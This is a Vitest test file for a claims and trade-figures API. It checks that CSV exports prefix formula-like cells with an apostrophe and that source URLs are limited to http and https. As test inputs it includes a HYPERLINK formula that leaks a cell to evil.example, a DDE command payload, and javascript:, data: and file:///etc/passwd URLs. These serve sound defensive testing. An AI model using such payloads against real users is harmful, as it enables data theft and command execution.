import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../helpers/app.js';
import { csvStream } from '../../src/lib/representation.js';
import { API_KEYS, bearer, claimBody, figureBody } from '../helpers/writes.js';

/**
 * Issue 19: CSV exports neutralise cells a spreadsheet would run as formulas (OWASP CSV
 * injection), and a source URL is http or https only.
 */

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp({ API_KEYS });
});
afterAll(async () => {
  await t?.close();
});

const post = (url: string, body: unknown) =>
  t.app.inject({
    method: 'POST',
    url,
    headers: { authorization: bearer(), 'content-type': 'application/json' },
    payload: body as object,
  });

async function collect(stream: AsyncIterable<string>): Promise<string> {
  let text = '';
  for await (const chunk of stream) text += chunk;
  return text;
}

async function* rowsOf(rows: Record<string, unknown>[]) {
  for (const row of rows) yield row;
}

describe('CSV export', () => {
  it('puts an apostrophe before text cells that begin like a formula, and leaves other cells alone', async () => {
    const cells = ['=1+2', '+1', '-1+2', '@SUM(A1)', '\tx', '\rx', 'plain', 'a=b', ' =x', ''];
    const text = await collect(
      csvStream(['text', 'number', 'flag'], rowsOf(cells.map((cell, i) => ({ text: cell, number: -i, flag: i % 2 === 0 })))),
    );
    const rows = parse(text, { columns: true }) as { text: string; number: string; flag: string }[];
    expect(rows.map((r) => r.text)).toEqual(["'=1+2", "'+1", "'-1+2", "'@SUM(A1)", "'\tx", "'\rx", 'plain', 'a=b', ' =x', '']);
    // Numbers stay numbers: a negative figure is not text a spreadsheet would run.
    expect(rows.map((r) => r.number)).toEqual(cells.map((_, i) => String(-i)));
  });

  it('neutralises formulas a curator wrote, in every text column, and keeps them verbatim in JSON', async () => {
    const statement = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
    const res = await post(
      '/v1/claims',
      claimBody({
        statement,
        claimant: { name: '@SUM(1+1)*cmd|" /C calc"!A0', type: 'journalist', leaderId: null },
        verificationNote: '+1+1',
        dateNote: '-2+3',
      }),
    );
    expect(res.statusCode, res.body).toBe(201);
    const id = (res.json() as { data: { id: string } }).data.id;
    expect((res.json() as { data: { statement: string } }).data.statement).toBe(statement);

    const csv = await t.app.inject({ method: 'GET', url: '/v1/claims?format=csv&country=RU&limit=100' });
    expect(csv.statusCode).toBe(200);
    const rows = parse(csv.body, { columns: true }) as Record<string, string>[];
    const row = rows.find((r) => r.id === id);
    expect(row).toBeDefined();
    expect(row?.statement).toBe(`'${statement}`);
    expect(row?.['claimant.name']).toBe('\'@SUM(1+1)*cmd|" /C calc"!A0');
    expect(row?.verificationNote).toBe("'+1+1");
    expect(row?.dateNote).toBe("'-2+3");
    // No cell of the export begins like a formula.
    for (const r of rows)
      for (const [column, cell] of Object.entries(r)) expect(/^[=+\-@\t\r]/.test(cell), `${column}: ${cell}`).toBe(false);
  });

  it('exports a negative figure as a number', async () => {
    const res = await post('/v1/trade-figures', figureBody({ value: -3, kind: 'change', unit: 'percent' }));
    expect(res.statusCode, res.body).toBe(201);
    const id = (res.json() as { data: { id: string } }).data.id;
    const csv = await t.app.inject({ method: 'GET', url: '/v1/trade-figures?format=csv&limit=100' });
    const row = (parse(csv.body, { columns: true }) as Record<string, string>[]).find((r) => r.id === id);
    expect(row?.value).toBe('-3');
  });
});

describe('source URLs', () => {
  const source = (url: string) => ({
    kind: 'other',
    title: `URL probe ${url.slice(0, 30)}`,
    language: 'en',
    url,
    dateNote: 'None.',
    retrievedAt: '2026-01-01T00:00:00Z',
    textNote: 'Synthetic.',
    text: `A text for the URL probe of ${url}.`,
  });

  it('refuses anything but http and https', async () => {
    for (const url of [
      'javascript:alert(document.cookie)',
      'JavaScript:alert(1)',
      'data:text/html,<script>alert(1)</script>',
      'vbscript:msgbox(1)',
      'file:///etc/passwd',
      'ftp://example.org/a',
      'mailto:someone@example.org',
    ]) {
      const res = await post('/v1/sources', source(url));
      expect(res.statusCode, url).toBe(400);
      const errors = (res.json() as { errors?: { pointer?: string; detail: string }[] }).errors ?? [];
      expect(errors.map((e) => e.pointer)).toEqual(['/url']);
      expect(errors[0]?.detail).toMatch(/is not an http or https URL/);
    }
  });

  it('takes http and https URLs', async () => {
    for (const url of ['https://example.org/article', 'http://example.org/a?b=c']) {
      const res = await post('/v1/sources', source(url));
      expect(res.statusCode, `${url}: ${res.body}`).toBe(201);
    }
  });
});
